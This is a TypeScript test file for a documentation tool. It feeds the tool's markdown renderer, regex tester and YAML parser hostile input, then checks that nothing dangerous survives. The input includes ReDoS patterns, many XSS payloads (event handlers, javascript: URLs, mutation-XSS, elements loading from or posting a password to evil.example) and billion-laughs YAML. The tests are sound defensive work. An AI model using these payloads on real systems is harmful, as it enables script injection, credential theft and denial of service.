import type { Element, Nodes } from 'hast';
import { fromHtml } from 'hast-util-from-html';
import { describe, expect, test } from 'vitest';
import { checkApiDocument } from '../../src/api/check.ts';
import { readExtensions } from '../../src/api/extensions.ts';
import { testPattern } from '../../src/api/pattern-test.ts';
import { parseSource } from '../../src/api/source-document.ts';
import { renderMarkdown } from '../../src/markdown/fragments/render-markdown.ts';
import { withoutHtml } from '../../src/markdown/fragments/without-html.ts';
import { readFrontmatter } from '../../src/project/frontmatter/frontmatter.ts';
import { octavo } from '../support/octavo.ts';
import { plainConfig, writeProject } from '../support/project.ts';

const operation = (mint: unknown): Record<string, unknown> => ({
  openapi: '3.1.0',
  info: { title: 'Kites', version: '1' },
  servers: [{ url: 'https://api.example.com' }],
  paths: { '/kites': { get: { summary: 'List kites', 'x-mint': mint, responses: { 200: { description: 'All.' } } } } },
});

describe('patterns of a description', () => {
  test.each([
    '^(a|a)*b$',
    '^(a|ab|aab)*c$',
    '^((a+)+)+b$',
    '(x+x+)+y',
    '^(?:a?){30}a{30}b$',
    '.*.*.*.*.*.*.*.*.*.*.*.*b',
    '^(([a-z])+.)+[A-Z]([a-z])+$',
    '^(a|b|ab)*(a|b|ab)*(a|b|ab)*(a|b|ab)*c$',
  ])('%s is matched in one pass', (pattern) => {
    expect(testPattern('a'.repeat(300), pattern)).toBe(false);
  });

  test.each([
    ['^[a-z]{2,4}-\\d+$', 'ab-12', true],
    ['^[a-z]{2,4}-\\d+$', 'abcde-12', false],
    ['\\bkite\\b', 'a kite flies', true],
    ['^\\p{Lu}\\w*$', 'ärger', false],
    ['^\\p{L}+$', 'Ärger', true],
    ['^(?:😀|b)+$', '😀b😀', true],
  ])('%s still says of %s: %s', (pattern, text, fits) => expect(testPattern(text, pattern)).toBe(fits));

  test('that need backtracking, or thousands of states, are not tried', () => {
    for (const pattern of ['(?=a)b', '(a)\\1', '(?<!a)b', '(a{1000}){1000}', '('.repeat(3000), '['])
      expect(testPattern('a', pattern)).toBeUndefined();
  });
});

describe('HTML in a description', () => {
  test.each([
    '<script>run()</script>',
    '<SCRIPT src="//evil.example/x.js"></SCRIPT >',
    '<scr<script>ipt>run()</script>',
    '<img src=x onerror="run()">',
    '<img src="javascript:run()">',
    '<img/src=x/onerror=run()>',
    '<a href="javascript:run()">x</a>',
    '<a href="JaVa&Tab;script&colon;run()">x</a>',
    '<a href=" \u0001javascript:run()">x</a>',
    '<a href="data:text/html,<script>run()</script>">x</a>',
    '<a href="vbscript:run()" onclick=run()>x</a>',
    '<p style="background:url(javascript:run())" onmouseover="run()">x</p>',
    '<td style="text-align: left; background: url(//evil.example)">x</td>',
    '<style>@import "//evil.example";</style>',
    '<link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content=0>',
    '<iframe srcdoc="<script>run()</script>"></iframe><embed src=//evil.example><object data=//evil.example></object>',
    '<form action=//evil.example><input name=password><button formaction=javascript:run()>x</button></form>',
    '<svg><animate onbegin=run() attributeName=x /><a xlink:href="javascript:run()">x</a></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=run()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=run()&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=run()>">',
    '<template><script>run()</script></template><xmp><img src=x onerror=run()></xmp>',
    '<details open ontoggle=run()><summary>x</summary></details><video><source onerror=run()></video>',
    '<p id="api-body" name="body" class="endpoint">x</p>',
    '<!--><img src=x onerror=run()>-->',
    '<![CDATA[<script>run()</script>]]>',
    '[x](<javascript:run()>) <javascript:run()>\n\n<p>[y]</p>\n\n[y]: javascript:run()',
  ])('%s runs nothing, and loads nothing but pictures', (text) => {
    const pages = [text, `Text ${text} text`, withoutHtml(text)].map((markdown) => renderMarkdown(markdown));
    for (const html of [...pages, renderMarkdown(text, { inline: true })])
      for (const { tagName, properties } of elementsOf(fromHtml(html, { fragment: true }))) {
        expect(tagName).toMatch(/^(?:p|a|img|br|details|summary|em|strong|code|input|table|t(?:[dhr]|head|body))$/);
        for (const [name, value] of Object.entries(properties)) {
          expect(name).toMatch(/^(?:href|src|alt|title|open|type|disabled)$/);
          expect(String(value)).not.toMatch(/script:|^data:/i);
        }
      }
  });
});

function elementsOf(node: Nodes): Element[] {
  const inside = 'children' in node ? node.children.flatMap(elementsOf) : [];
  return node.type === 'element' ? [node, ...inside] : inside;
}

describe('x-mint', () => {
  test('metadata is frontmatter: what is no text and no page says so, and ends nothing', async () => {
    const mint = { metadata: { title: 42, url: 'https://evil.example', tag: { a: 1 }, hidden: 'maybe' } };
    const navigation = {
      groups: [
        { group: 'A', pages: ['index'] },
        { group: 'API', openapi: 'openapi.json' },
      ],
    };
    const folder = await writeProject({
      'docs.json': { ...plainConfig, navigation },
      'index.mdx': '# Hi\n',
      'openapi.json': operation(mint),
    });
    const { code, stdout } = await octavo(['check', folder.path, '--json', '--offline']);
    await folder.remove();
    expect(code).toBe(0);
    const { diagnostics } = JSON.parse(stdout) as { diagnostics: { file: string; message: string }[] };
    const messages = diagnostics
      .filter(({ file }) => file === 'openapi.json')
      .map(({ message }) => message.slice(0, 14));
    expect(messages.sort()).toEqual(['"hidden" must ', '"tag" must be ', '"url" in "x-mi']);
  });

  test.each(['/_octavo/search', '_octavo', '/a/../_octavo/x', '/%5foctavo/x', '\\_octavo\\x', '/_astro/x.js'])(
    'href %s claims no folder of the site',
    (href) => {
      expect(readExtensions({ 'x-mint': { href } }).href).toBeUndefined();
      const text = JSON.stringify(operation({ href }));
      const messages = checkApiDocument({ path: 'openapi.json', text }).map(({ message }) => message);
      expect(messages).toEqual([expect.stringContaining('the site keeps its own files there')]);
    },
  );
});

describe('YAML', () => {
  const laughs =
    'a0: &a0 [lol]\n' +
    Array.from({ length: 9 }, (_, i) => `a${i + 1}: &a${i + 1} [${Array(9).fill(`*a${i}`).join(', ')}]\n`).join('');
  const merges =
    `b: &b {${Array.from({ length: 3000 }, (_, i) => `k${i}: 1`).join(', ')}}\n` +
    Array.from({ length: 300 }, (_, i) => `m${i}: {<<: [${Array(50).fill('*b').join(', ')}]}\n`).join('');

  test.each([
    ['aliases of aliases', laughs],
    ['aliases of aliases as a title', `${laughs}title: *a9\n`],
    ['aliases of aliases as a key', `${laughs}? *a9\n: x\n`],
    ['thousands of merged objects', merges],
    ['twenty thousand brackets', `a: ${'['.repeat(20_000)}${']'.repeat(20_000)}`],
  ])('%s end nothing, in frontmatter and in a description', (_name, yaml) => {
    const { frontmatter } = readFrontmatter({ path: 'a.mdx', text: `---\ndescription: Kept\n${yaml}\n---\n` });
    expect(JSON.stringify(frontmatter).length).toBeLessThan(1_000_000);
    const text = `openapi: 3.1.0\npaths: {}\nx-a:\n${yaml.replace(/^/gm, '  ')}`;
    expect(parseSource({ path: 'a.yaml', text }).diagnostics).toHaveLength(1);
  });
});
